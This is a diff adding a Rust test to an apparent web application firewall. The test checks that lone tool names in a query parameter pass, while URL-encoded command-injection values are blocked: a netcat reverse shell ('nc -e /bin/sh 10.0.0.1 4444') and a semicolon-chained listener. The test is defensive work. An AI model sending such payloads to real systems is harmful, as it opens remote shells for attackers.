@@ -341,3 +341,32 @@ fn exclusions_match_the_resolved_path() {
         "a climb out of an excluded prefix is not excluded"
     );
 }
+
+/// A value that is one word is no command line, even when the word names a tool: `NC` is a
+/// state, `r2` a product or a release name. With arguments or a shell around it, it is.
+#[test]
+fn lone_words_that_name_tools_are_not_commands() {
+    let waf = Waf::new(WafConfig::default()).unwrap();
+    for value in ["nc", "NC", "r2", "ncat", "socat"] {
+        let query = format!("state={value}");
+        let verdict = waf.inspect(&RequestParts {
+            method: b"GET",
+            path: b"/checkout",
+            query: Some(query.as_bytes()),
+            headers: &[],
+            body: None,
+        });
+        assert!(!verdict.is_blocked(), "{value}: {verdict:?}");
+    }
+    for value in ["nc%20-e%20/bin/sh%2010.0.0.1%204444", "x;nc%20-lvp%204444"] {
+        let query = format!("state={value}");
+        let verdict = waf.inspect(&RequestParts {
+            method: b"GET",
+            path: b"/checkout",
+            query: Some(query.as_bytes()),
+            headers: &[],
+            body: None,
+        });
+        assert!(verdict.is_blocked(), "{value}: {verdict:?}");
+    }
+}
